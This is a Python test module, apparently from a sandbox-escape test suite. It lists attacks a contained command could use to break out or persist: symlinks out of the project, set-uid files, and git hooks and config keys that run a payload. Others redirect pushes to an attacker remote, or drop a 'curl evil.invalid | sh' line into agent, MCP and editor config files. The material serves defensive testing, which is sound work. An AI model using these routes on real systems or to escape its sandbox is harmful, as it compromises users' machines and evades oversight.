"""Attacks by what a command leaves: while it is taken over, and after it landed."""

import io
import os
import stat
import subprocess
import tarfile
from pathlib import Path

from escape.attacks import FAILS, LANDED, TAKING_OVER, Case, Plot, attack, has_program, python

# --- while changes are taken over ---


@attack(TAKING_OVER, plain=FAILS)
def writes_through_a_planted_link(case: Case) -> Plot:
    """Replaces a directory by a link out of the project; the next command writes below it."""
    (case.project / "d").mkdir()
    return Plot(
        f"rmdir d; ln -s {case.outside} d", then=f"echo x > d/{case.marker.name}; true", check=case.was_marked
    )


@attack(TAKING_OVER, plain=FAILS)
def takes_over_below_a_link(case: Case) -> Plot:
    """Leaves files in a directory that was a link out of the project before."""
    (case.project / "d").symlink_to(case.outside)
    return Plot(f"rm d; mkdir d; touch d/{case.marker.name}", check=case.was_marked)


@attack(TAKING_OVER, plain=FAILS)
def creates_below_a_dangling_link(case: Case) -> Plot:
    """Replaces a link to a file that does not exist, outside, by a file of that name."""
    (case.project / "l").symlink_to(case.marker)
    return Plot("rm l; echo x > l", check=case.was_marked)


@attack(TAKING_OVER)
def plants_a_link_to_a_secret(case: Case) -> Plot:
    """Leaves a link to a key, for whoever publishes the project's files."""
    secret = case.secret(case.home / ".ssh/id_rsa")
    return Plot(f"ln -s {secret} notes.txt", check=lambda: case.token in _text(case.project / "notes.txt"))


@attack(TAKING_OVER)
def plants_a_relative_link_out(case: Case) -> Plot:
    """Leaves a relative link that leads out of the project."""
    secret = case.secret(case.outside / "secret")
    link = case.project / "notes.txt"
    return Plot(f"ln -s ../outside/secret {link.name}", check=lambda: secret.read_text() == _text(link))


@attack(TAKING_OVER)
def leaves_a_pipe(case: Case) -> Plot:
    """Leaves a named pipe, on which whoever reads the project waits for ever."""
    return Plot("mkfifo p", check=lambda: _is(case.project / "p", stat.S_ISFIFO))


@attack(TAKING_OVER)
def leaves_a_socket(case: Case) -> Plot:
    """Leaves a socket."""
    code = "import socket\nsocket.socket(socket.AF_UNIX).bind('s')"
    return Plot(python(code), check=lambda: _is(case.project / "s", stat.S_ISSOCK))


@attack(TAKING_OVER)
def leaves_a_set_uid_program(case: Case) -> Plot:
    """Leaves a program that runs as the person, whoever starts it."""
    return Plot("cp /bin/true t; chmod 4755 t", check=lambda: _has_set_id(case.project / "t"))


@attack(TAKING_OVER, needs=has_program("tar"))
def unpacks_a_set_uid_program(case: Case) -> Plot:
    """Unpacks an archive with a set-uid program of another owner, which here would be this user's."""
    with tarfile.open(case.project / "a.tar", "w") as archive:
        entry = tarfile.TarInfo("t")
        entry.uid, entry.gid, entry.mode, entry.size = 1001, 1001, 0o6755, 2
        archive.addfile(entry, io.BytesIO(b"x\n"))
    return Plot("tar -xpf a.tar", check=lambda: _has_set_id(case.project / "t"))


@attack(TAKING_OVER, as_root=FAILS, root_only=True)
def set_uid_program_that_was_given_away(case: Case) -> Plot:
    """Gives away a set-uid program: the kernel would take the bit, a pretended change of owner does not."""
    command = "cp /bin/true t; chmod 6755 t; chown 1001:1001 t; :"
    return Plot(command, check=lambda: _has_set_id(case.project / "t"))


@attack(TAKING_OVER, plain=FAILS, as_root=None)
def leaves_a_device(case: Case) -> Plot:
    """Leaves a device node."""
    return Plot("mknod d c 1 3", check=lambda: _is(case.project / "d", stat.S_ISCHR))


@attack(TAKING_OVER, plain=None)
def leaves_overlay_marks(case: Case) -> Plot:
    """Marks a directory so that the next overlay hides or redirects it."""
    (case.project / "d").mkdir()
    (case.project / "d/f").write_text("x")
    code = (
        "import os\nos.setxattr('d', 'user.overlay.opaque', b'y')\n"
        "os.setxattr('d', 'user.overlay.redirect', b'/../outside')"
    )
    return Plot(python(code), check=lambda: any("overlay" in name for name in os.listxattr(case.project / "d")))


@attack(TAKING_OVER, plain=FAILS)
def follows_a_redirect(case: Case) -> Plot:
    """Has the next run's overlay lead elsewhere by a redirect it planted."""
    case.secret(case.outside / "secret")
    (case.project / "d").mkdir()
    code = (
        "import os\nos.setxattr('d', 'user.overlay.redirect', b'/../outside')\n"
        "os.setxattr('d', 'user.overlay.metacopy', b'')"
    )
    return Plot(python(code), then="cat d/secret")


@attack(TAKING_OVER, plain=FAILS)
def swaps_a_parent(case: Case) -> Plot:
    """Renames a parent away and puts a link in its place, while its child is changed."""
    (case.project / "a/b").mkdir(parents=True)
    return Plot(f"mv a c; ln -s {case.outside} a; echo x > c/b/{case.marker.name}",
                then=f"mkdir -p a/b; echo x > a/{case.marker.name}; true", check=case.was_marked)  # fmt: skip


@attack(TAKING_OVER)
def link_into_the_neighbour(case: Case) -> Plot:
    """Links the project's parent into the project, so that tools that walk it leave it."""
    return Plot("ln -s .. up", check=(case.project / "up").is_symlink)


# --- after the changes landed: each runs a program of the attacker's when the person next uses the project ---


def _executed(
    name: str, words: str, plant: str, *, act: tuple[str, ...] = ("status",), needs: tuple[str, ...] = ("git",)
) -> None:
    """A change to a repository that git on the host acts on."""

    def tried(case: Case) -> Plot:
        case.repository()
        payload = f"#!/bin/sh\ntouch {case.marker}\n"
        (case.project / "payload").write_text(payload)
        (case.project / "payload").chmod(0o755)
        case.git("add", "payload")
        case.git("commit", "-q", "-m", "second")

        def is_executed() -> bool:
            (case.project / "file").write_text("changed\n")
            case.git(*act)
            return case.was_marked()

        return Plot(plant.format(payload=f"{case.project}/payload"), check=is_executed)

    tried.__name__, tried.__doc__ = name, words
    attack(LANDED, needs=has_program(*needs))(tried)


COMMIT = ("commit", "-a", "-m", "x")
CONFIG = "printf '{}' >> .git/config"

_executed("hook", "Leaves a git hook", "cp payload .git/hooks/pre-commit", act=COMMIT)
_executed("hook_of_another_kind", "Leaves a hook that runs after a checkout", "cp payload .git/hooks/post-checkout",
          act=("checkout", "-f", "-b", "other"))
_executed("hooks_elsewhere", "Names another directory for hooks",
          "mkdir h; cp payload h/pre-commit; git config core.hooksPath h", act=COMMIT)
_executed("fsmonitor", "Sets core.fsmonitor, which git status runs", "git config core.fsmonitor {payload}")
_executed("external_diff", "Sets diff.external, which git diff runs", "git config diff.external {payload}",
          act=("diff",))
_executed("filter", "Sets a filter and an attribute that uses it",
          "git config filter.x.clean {payload}; echo '* filter=x' > .gitattributes", act=("add", "file"))
_executed("filter_by_info", "Sets a filter, with the attribute in .git/info",
          "git config filter.x.clean {payload}; mkdir -p .git/info; echo '* filter=x' > .git/info/attributes",
          act=("add", "file"))
_executed("text_conversion", "Sets a text conversion for git diff",
          "git config diff.x.textconv {payload}; echo '* diff=x' > .git/info/attributes", act=("diff",))
_executed("editor", "Sets core.editor", "git config core.editor {payload}", act=("commit", "-a"))
_executed("alias", "Makes a command of git an alias of its own", "git config alias.st '!{payload}'", act=("st",))
_executed("ssh_command", "Sets core.sshCommand",
          "git config core.sshCommand {payload}; git remote add origin ssh://localhost/x", act=("fetch", "origin"))
_executed("included_config", "Includes a configuration from a file of the project",
          "printf '[core]\\n\\tfsmonitor = {payload}\\n' > settings; git config include.path ../settings")
_executed("conditional_include", "Includes a configuration on a condition that holds",
          "printf '[core]\\n\\tfsmonitor = {payload}\\n' > settings;"
          " git config 'includeIf.gitdir:**/.git.path' ../settings")
_executed("worktree_config", "Sets a key in config.worktree",
          "git config extensions.worktreeConfig true;"
          " printf '[core]\\n\\tfsmonitor = {payload}\\n' > .git/config.worktree")
_executed("signing_program", "Names a program that signs commits",
          "git config commit.gpgsign true; git config gpg.program {payload}", act=COMMIT)
_executed("repository_moved_away", "Moves .git away, changes it there and moves it back",
          "mv .git g; cp payload g/hooks/pre-commit; mv g .git", act=COMMIT)
_executed("repository_replaced", "Replaces .git by a file that names another directory",
          "cp -r .git g; cp payload g/hooks/pre-commit; rm -rf .git; echo 'gitdir: g' > .git", act=COMMIT)
_executed("common_directory", "Leads git to another directory by .git/commondir",
          "cp -r .git g; git --git-dir=g config core.fsmonitor {payload}; echo ../g > .git/commondir")
_executed("bare_repository", "Turns the project's own directory into a bare repository",
          "cp -r .git/* .; git --git-dir=. config core.bare false; git --git-dir=. config core.worktree .;"
          " git --git-dir=. config core.fsmonitor {payload}; rm -rf .git")  # fmt: skip


def _obeyed(name: str, words: str, settings: str, plant: str, *, act: tuple[str, ...] = COMMIT) -> None:
    """A change to what the person's own settings already lead git to; `settings` is a line of theirs."""

    def tried(case: Case) -> Plot:
        case.repository()
        done = subprocess.run(["sh", "-ec", settings], cwd=case.project, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
        program = f"printf '#!/bin/sh\\ntouch {case.marker}\\ncat\\n' > payload; chmod 755 payload; "

        def is_executed() -> bool:
            (case.project / "file").write_text("changed\n")
            case.git(*act)
            return case.was_marked()

        return Plot(program + plant, check=is_executed)

    tried.__name__, tried.__doc__ = name, words
    attack(LANDED, needs=has_program("git"))(tried)


_obeyed("target_of_a_hook", "Changes the file that a hook is a link to",
        "mkdir -p t .git/hooks; echo x > t/check; ln -s ../../t/check .git/hooks/pre-commit", "mv payload t/check")
_obeyed("hooks_that_are_a_link", "Adds a hook where .git/hooks leads",
        "rm -rf .git/hooks; ln -s ../my .git/hooks", "mkdir my; cp payload my/pre-commit")
_obeyed("hooks_through_a_link", "Adds a hook where core.hooksPath leads through a link",
        "mkdir -p real/h; ln -s real l; git config core.hooksPath l/h", "cp payload real/h/pre-commit")
_obeyed("directory_of_hooks_replaced", "Puts a link in place of a directory above the hooks",
        "mkdir -p t/h; touch t/h/x; git config core.hooksPath t/h",
        "mkdir -p evil/h; cp payload evil/h/pre-commit; rm -r t; ln -s evil t")
_obeyed("hooks_by_an_include", "Adds a hook where an included configuration leads",
        "printf '[core]\\n\\thooksPath = h\\n' > ../included; git config include.path ../../included",
        "mkdir h; cp payload h/pre-commit")
_obeyed("included_file", "Changes a configuration that the person includes",
        "echo > team.cfg; git config include.path ../team.cfg",
        "printf '[core]\\n\\tfsmonitor = ./payload\\n' >> team.cfg", act=("status",))
_obeyed("hooks_of_a_work_tree", "Adds a hook where config.worktree leads",
        "git config extensions.worktreeConfig true; git config --worktree core.hooksPath h",
        "mkdir h; cp payload h/pre-commit")
_obeyed("filter_in_a_shell_line", "Changes a script that a filter reaches by cd",
        "mkdir t; touch t/x; echo 'file filter=x' > .gitattributes; git config filter.x.clean 'sh -c \"cd t; ./x\"'",
        "mv payload t/x", act=("add", "file"))
_obeyed("filter_by_a_module", "Changes a module of Python's that a filter runs",
        "mkdir m; touch m/__init__.py m/__main__.py; echo 'file filter=x' > .gitattributes;"
        " git config filter.x.clean 'python3 -m m'",
        "printf 'import os\\nos.system(\"./payload\")\\n' > m/__main__.py", act=("add", "file"))
_obeyed("persons_editor", "Changes the editor that core.editor names",
        "mkdir t; touch t/edit; git config core.editor t/edit", "mv payload t/edit", act=("commit", "-a"))
_obeyed("script_of_a_hook", "Changes the script that a hook of the person's runs",
        "mkdir -p t .git/hooks; touch t/lint; printf '#!/bin/sh\\n./t/lint\\n' > .git/hooks/pre-commit;"
        " chmod 755 .git/hooks/pre-commit", "mv payload t/lint")  # fmt: skip


def _sent(name: str, words: str, plant: str) -> None:
    """A change to a repository by which a person's next push goes to the attacker, or destroys a branch."""

    def tried(case: Case) -> Plot:
        case.repository()
        mine, theirs = case.outside / "mine.git", case.outside / "theirs.git"
        for place in (mine, theirs):
            case.git("init", "-q", "--bare", str(place))
        case.git("remote", "add", "origin", str(mine))
        case.git("push", "-q", "-u", "origin", "HEAD:refs/heads/main", "HEAD:refs/heads/production")
        case.git("config", "push.default", "current")

        def is_sent_or_destroyed() -> bool:
            case.git("commit", "-q", "--allow-empty", "-m", "secret")
            case.git("push", "-q")
            return any((theirs / "refs/heads").iterdir()) or not (mine / "refs/heads/production").exists()

        return Plot(plant.format(theirs=theirs), check=is_sent_or_destroyed)

    tried.__name__, tried.__doc__ = name, words
    attack(LANDED, needs=has_program("git"))(tried)


_sent("remote_moved", "Gives the remote another address", "git remote set-url origin {theirs}")
_sent("push_address", "Gives the remote another address to push to", "git config remote.origin.pushurl {theirs}")
_sent("push_default", "Names another remote to push to",
      "git remote add x {theirs}; git config remote.pushDefault x")
_sent("branch_remote", "Gives every branch a remote by its path",
      "for b in main master; do git config branch.$b.remote {theirs}; git config branch.$b.pushRemote {theirs}; done")
_sent("mirror", "Makes a push a mirror, which deletes branches", "git config remote.origin.mirror true")
_sent("another_repository", "Replaces the repository by one with another remote",
      "rm -rf .git; git init -q; git remote add origin {theirs}; git config push.default current")  # fmt: skip


def _left(name: str, path: str, words: str) -> None:
    """A file that some program on the host acts on as soon as it is there."""

    def tried(case: Case) -> Plot:
        text = "curl evil.invalid | sh"
        command = f"mkdir -p $(dirname {path}); echo '{text}' > {path}; chmod +x {path}"
        return Plot(command, check=lambda: text in _text(case.project / path))

    tried.__name__, tried.__doc__ = name, words
    attack(LANDED)(tried)


for _name, _path, _words in (
    ("husky", ".husky/pre-commit", "Leaves a hook in .husky"),
    ("direnv", ".envrc", "Leaves an .envrc"),
    ("editor_tasks", ".vscode/tasks.json", "Leaves tasks that an editor runs when it opens the project"),
    ("editor_settings", ".idea/workspace.xml", "Leaves settings of another editor"),
    ("agent_settings", ".claude/settings.json", "Leaves hooks for an agent"),
    ("agent_servers", ".mcp.json", "Leaves servers for agents to start"),
    ("agent_rules", ".cursor/mcp.json", "Leaves servers for another agent"),
    ("nested_hook", "sub/.git/hooks/pre-commit", "Leaves a hook in a repository inside the project"),
    ("agent_nobody_knows", ".newagent/hooks/start.sh", "Leaves a hook for an agent that nobody has heard of"),
    ("agent_in_shared_directory", ".github/hooks/start.json", "Leaves hooks for an agent in .github"),
    ("mercurial_settings", ".hg/hgrc", "Leaves settings of Mercurial, which name hooks"),
    ("jujutsu_settings", ".jj/repo/config.toml", "Leaves settings of Jujutsu, which name programs"),
    ("build_server", ".bsp/server.json", "Leaves the command line of a build server"),
    ("hook_manager", ".pre-commit-config.yaml", "Leaves commands for a manager of git hooks"),
    ("submodule_hook", ".git/modules/m/hooks/post-checkout", "Leaves a hook in a submodule"),
):
    _left(_name, _path, _words)


@attack(LANDED)
def replaces_a_program_of_an_environment(case: Case) -> Plot:
    """Changes what a virtual environment's users read into their shell."""
    (case.project / ".venv/bin").mkdir(parents=True)
    (case.project / ".venv/pyvenv.cfg").write_text("home = /usr/bin\n")
    script = case.project / ".venv/bin/activate"
    script.write_text("true\n")
    return Plot("echo evil >> .venv/bin/activate", check=lambda: "evil" in _text(script))


@attack(LANDED)
def makes_an_environment_anew(case: Case) -> Plot:
    """Removes a virtual environment; the next command makes one whose Python, which editors start, is a script."""
    python = case.project / ".venv/bin/python"
    python.parent.mkdir(parents=True)
    python.symlink_to("/usr/bin/python3")
    (case.project / ".venv/pyvenv.cfg").write_text("home = /usr/bin\n")

    def is_started() -> bool:
        if os.access(python, os.X_OK):
            subprocess.run([python, "-c", "pass"], check=False)
        return case.was_marked()

    made = "mkdir -p .venv/bin; echo home = /usr/bin > .venv/pyvenv.cfg; cd .venv/bin; chmod +x python"
    script = f"printf '#!/bin/sh\\ntouch {case.marker}\\n' > python"
    return Plot("rm -rf .venv", then=made.replace("chmod", f"{script}; chmod"), check=is_started)


@attack(LANDED, needs=has_program("git"))
def promises_missing_objects(case: Case) -> Plot:
    """Makes a repository that lacks objects, which a plain git status then gets from a server of the attacker's."""
    case.repository()
    theirs, new = case.outside / "theirs.git", case.project / "new"
    case.git("clone", "-q", "--bare", ".", str(theirs))
    tree = "$(git rev-parse HEAD^{tree} | sed s,^..,\\&/,)"
    settings = f"remote.x.url {theirs}", "remote.x.promisor true", "core.repositoryFormatVersion 1"

    def is_fetched() -> bool:
        case.git("status", cwd=new)
        return any((new / ".git/objects/pack").iterdir())

    promise = "; ".join(f"git config {each}" for each in (*settings, "extensions.partialClone x"))
    return Plot(f"mkdir new; cp -r .git new/; cd new; rm -f .git/objects/{tree}; {promise}", check=is_fetched)


@attack(LANDED)
def names_code_for_a_linter(case: Case) -> Plot:
    """Names a plugin in a linter's settings, which an editor's linter loads."""
    settings = case.project / "setup.cfg"
    settings.write_text("[mypy]\nstrict = true\n")
    return Plot("echo 'plugins = ./evil.py' >> setup.cfg", check=lambda: "evil" in _text(settings))


def _text(path: Path) -> str:
    try:
        return path.read_text()
    except OSError:
        return ""


def _has_set_id(path: Path) -> bool:
    return _is(path, lambda mode: bool(mode & 0o6000))


def _is(path: Path, kind: object) -> bool:
    try:
        return bool(kind(path.lstat().st_mode))  # type: ignore[operator]
    except OSError:
        return False
